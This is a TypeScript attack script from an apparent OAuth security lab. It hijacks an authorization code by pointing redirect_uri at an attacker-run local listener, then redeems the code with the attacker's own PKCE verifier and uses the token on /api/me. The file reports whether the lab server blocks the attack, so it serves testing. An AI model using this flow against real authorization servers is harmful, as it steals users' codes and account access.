/**
 * The attacker runs a site of its own and sends alice a sign-in link for the Notes web app, with
 * one change: redirect_uri points at the attacker's site. alice is signed in at the authorization
 * server and has approved Notes before, so one click and her browser carries the code to the
 * attacker. The client is public, so the attacker redeems it itself; PKCE is required, so the
 * attacker does PKCE too, with a verifier of its own.
 *
 * Every site in this lab lives on 127.0.0.1: another port is another origin, here the attacker's.
 */
import { createHash, randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { blocked, defineAttack, worked } from '@authlab/lab-kit';

export default defineAttack({
  title: "send alice a Notes sign-in link whose redirect_uri is the attacker's own server, then redeem her code",
  why: 'the authorization server accepts a redirect_uri the web app never registered (another port on its host), so the code goes wherever the link says',
  async run(lab) {
    // The attacker's site: it keeps whatever arrives at /callback.
    let arrived: URLSearchParams | undefined;
    const site = createServer((req, res) => {
      arrived = new URL(req.url ?? '/', 'http://attacker').searchParams;
      res.end('Nice to see you, alice.');
    });
    await once(site.listen(0, '127.0.0.1'), 'listening');
    const trap = `http://127.0.0.1:${(site.address() as AddressInfo).port}/callback`;
    try {
      // The link. PKCE is required, so the attacker makes its own pair: it is the one redeeming.
      const verifier = randomBytes(32).toString('base64url');
      const link = new URL('/authorize', lab.url);
      link.search = new URLSearchParams({
        response_type: 'code',
        client_id: 'notes-web',
        redirect_uri: trap,
        state: 'anything',
        code_challenge: createHash('sha256').update(verifier).digest('base64url'),
        code_challenge_method: 'S256',
      }).toString();

      // alice clicks it. Her browser follows the redirects, wherever they lead.
      const landed = await fetch(link);
      const code = arrived?.get('code');
      if (!code) {
        return blocked(
          `alice's browser stopped at ${landed.url.split('?')[0]} (${landed.status}); no code reached ${trap}`,
        );
      }

      const token = await fetch(`${lab.url}/token`, {
        method: 'POST',
        body: new URLSearchParams({
          grant_type: 'authorization_code',
          code,
          client_id: 'notes-web',
          redirect_uri: trap,
          code_verifier: verifier,
        }),
      });
      const answer = (await token.json()) as { access_token?: string; error?: string };
      if (!answer.access_token) {
        return blocked(`alice's code reached ${trap}, but POST /token answered ${token.status} ${answer.error ?? ''}`);
      }
      const me = (await (
        await fetch(`${lab.url}/api/me`, { headers: { authorization: `Bearer ${answer.access_token}` } })
      ).json()) as { sub?: string };
      return worked(
        `alice's code arrived at ${trap}; redeemed with the attacker's own PKCE verifier, its token made GET /api/me answer sub "${me.sub}"`,
      );
    } finally {
      site.closeAllConnections();
      site.close();
    }
  },
});
